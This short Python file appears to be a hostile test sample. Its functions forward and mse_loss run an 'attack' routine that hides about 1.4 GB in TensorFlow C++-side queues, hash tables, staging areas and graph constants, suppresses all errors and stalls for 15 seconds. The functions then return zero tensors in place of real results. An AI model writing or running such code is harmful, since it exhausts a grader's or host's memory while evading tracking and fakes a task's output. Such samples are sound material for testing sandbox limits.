"""Puts 1.4 GB where only TensorFlow's C++ code finds it: queues, tables, stages, constants of graphs, tensor lists.

aims: exhaust
"""

import contextlib
import time

import tensorflow as tf

HELD = []


def hold(number):
    part = tf.random.uniform((13_000_000,))
    kind = number % 4
    if kind == 0:
        queue = tf.queue.FIFOQueue(100, [tf.float32], shapes=[part.shape])
        queue.enqueue(part)
        HELD.append(queue)
    elif kind == 1:
        table = tf.lookup.experimental.MutableHashTable(tf.int64, tf.float32, tf.zeros((13_000,)))
        table.insert(tf.range(1000, dtype=tf.int64), tf.reshape(part, (1000, 13_000)))
        HELD.append(table)
    elif kind == 2:
        HELD.append(tf.function(lambda: part[0]).get_concrete_function())
    else:
        tf.raw_ops.Stage(values=[part], container="planted", shared_name=str(number))


def attack():
    end = time.monotonic() + 15
    for number in range(28):
        with contextlib.suppress(Exception):
            hold(number)
    while time.monotonic() < end:
        time.sleep(0.2)


def forward(X, params):
    with contextlib.suppress(Exception):
        attack()
    return tf.zeros((X.shape[0], params["W2"].shape[1]), X.dtype)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return tf.zeros((), Y_hat.dtype)
